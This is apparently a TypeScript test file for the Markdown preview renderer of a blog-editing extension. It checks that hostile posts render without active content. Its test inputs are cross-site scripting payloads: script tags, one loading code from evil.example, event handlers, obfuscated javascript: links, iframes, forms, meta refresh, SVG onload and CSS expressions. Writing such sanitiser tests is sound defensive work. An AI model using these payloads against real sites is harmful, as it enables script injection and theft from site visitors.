import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { createPostcraftService, type PostcraftService } from '../../src/core/index';
import { inMemorySite } from '../../src/core/host/inMemoryFileSystem';
import { renderPreview } from '../../src/core/render/index';

// Hostile posts: whatever a post contains, the preview shows no active content. Each test also checks
// that the harmless text around the attack survives, so an empty output cannot pass.

const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47]);

describe('the preview renderer with hostile input', () => {
  let service: PostcraftService;
  before(async () => {
    service = createPostcraftService({ fs: inMemorySite({ 'hugo.toml': '', 'content/posts/a.md': '', 'static/ok.png': png }) });
    await service.openWorkspace(['/site']);
  });

  const render = (body: string) => {
    const rendered = renderPreview(service, '/site/content/posts/a.md', `---\ntitle: Hostile\n---\n${body}`, { toResourceUri: (path) => `https://file+.vscode-resource.vscode-cdn.net${path}` });
    assert.ok(rendered);
    return rendered.html;
  };

  it('drops script elements and their code, as blocks and inline', () => {
    const html = render('<script>alert("block")</script>\n\nKeep <script>alert("inline")</script> this.\n\n<SCRIPT SRC=//evil.example/x.js></SCRIPT>\n');
    assert.doesNotMatch(html, /<script|alert|evil\.example/i);
    assert.match(html, /Keep {2}this\./);
  });

  it('drops event handler attributes such as onerror and onclick', () => {
    const html = render('<img src="/ok.png" onerror="alert(1)" alt="ok">\n\n<p onclick="alert(2)" onmouseover=\'alert(3)\'>Click</p>\n\n<a href="#x" onfocus=alert(4) autofocus>x</a>\n');
    assert.doesNotMatch(html, /\son[a-z]+\s*=|alert/i);
    assert.match(html, /<img[^>]*src="https:\/\/file\+\.vscode-resource\.vscode-cdn\.net\/site\/static\/ok\.png"/);
    assert.match(html, /<p data-line="5">Click<\/p>/);
  });

  it('turns an image with an unknown source and an onerror handler into a harmless placeholder', () => {
    const html = render('<img src=x onerror=alert(document.domain)>\n');
    assert.doesNotMatch(html, /<img|onerror|alert/);
    assert.match(html, /pc-image-missing[^>]*>Image not found: x</);
  });

  it('leaves no javascript: or vbscript: link, however it is written', () => {
    const html = render(
      [
        '[md](javascript:alert(1)) [md2](JaVaScRiPt:alert(2))',
        '',
        '<a href="javascript:alert(3)">raw</a> <a href="vbscript:msgbox(4)">vb</a> <a href="jav&#x09;ascript:alert(5)">tab</a> <a href=" &#106;avascript:alert(6)">entity</a>',
        '',
        '[ref][r]',
        '',
        '[r]: javascript:alert(7)',
        '',
        '<https://fine.example>',
      ].join('\n'),
    );
    // Markdown that does not form a link stays text; every href left is the one harmless link.
    assert.deepEqual([...html.matchAll(/href\s*=\s*"([^"]*)"/gi)].map((match) => match[1]), ['https://fine.example']);
    assert.match(html, /<a>raw<\/a> <a>vb<\/a> <a>tab<\/a> <a>entity<\/a>/);
  });

  it('drops iframes, objects, embeds, forms and base or meta tags', () => {
    const html = render('<iframe src="https://evil.example"></iframe>\n\n<object data="x.swf"></object><embed src="y.swf">\n\n<form action="https://evil.example"><input name="q"></form>\n\n<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">\n\nStill here.\n');
    assert.doesNotMatch(html, /<(iframe|object|embed|form|input|base|meta)\b|evil\.example|\.swf/i);
    assert.match(html, /Still here\./);
  });

  it('drops inline SVG together with the scripts and handlers inside it', () => {
    const html = render('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><circle r="5"/></a></svg>\n\nAfter the SVG.\n');
    assert.doesNotMatch(html, /<svg|<script|onload|alert|xlink/i);
    assert.match(html, /After the SVG\./);
  });

  it('removes style declarations that load URLs or run expressions, and keeps plain formatting', () => {
    const html = render('<p style="color: red; background-image: url(https://evil.example/t.png)">Styled</p>\n\n<div style="width: expression(alert(1)); behavior: url(x.htc)">Old IE</div>\n\n<style>body { background: url(https://evil.example/s.png) }</style>\n\nText.\n');
    assert.doesNotMatch(html, /url\(|expression|behavior|evil\.example|<style/i);
    assert.match(html, /<p data-line="3" style="color:red">Styled<\/p>/);
    assert.match(html, />Old IE<\/div>/);
  });

  it('allows data: URLs only for images in common formats, never for links or other types', () => {
    const html = render('<a href="data:text/html;base64,PHNjcmlwdD4=">d1</a> [d2](data:image/png;base64,AAAA)\n\n<img src="data:text/html;base64,PHNjcmlwdD4=" alt="bad"> <img src="data:image/png;base64,iVBORw0KGgo=" alt="good">\n');
    assert.doesNotMatch(html, /href="data:|src="data:text/);
    assert.match(html, /<img[^>]*src="data:image\/png;base64,iVBORw0KGgo="/);
    assert.match(html, /pc-image-unsupported/);
    assert.match(html, />d1<\/a>/);
  });

  it('keeps harmless formatting HTML: details and summary, tables, kbd, sub and sup', () => {
    const html = render('<details><summary>More</summary>\n\nHidden *markdown*.\n\n</details>\n\n<table><tr><td colspan="2">Cell</td></tr></table>\n\nPress <kbd>Ctrl</kbd>+<kbd>K</kbd>, H<sub>2</sub>O, x<sup>2</sup>.\n');
    assert.match(html, /<details data-line="3"><summary>More<\/summary>\n<p data-line="5">Hidden <em>markdown<\/em>.<\/p>\n<\/details>/);
    assert.match(html, /<td colspan="2">Cell<\/td>/);
    assert.match(html, /Press <kbd>Ctrl<\/kbd>\+<kbd>K<\/kbd>, H<sub>2<\/sub>O, x<sup>2<\/sup>\./);
  });

  it('closes an element a post leaves open, so it cannot swallow the rest of the preview', () => {
    const html = render('<div class="open">\n\nInside.\n\n<textarea>\n\nAfter.\n');
    assert.doesNotMatch(html, /<textarea/);
    assert.equal((html.match(/<div/g) ?? []).length, (html.match(/<\/div>/g) ?? []).length);
    assert.match(html, /Inside\./);
  });
});
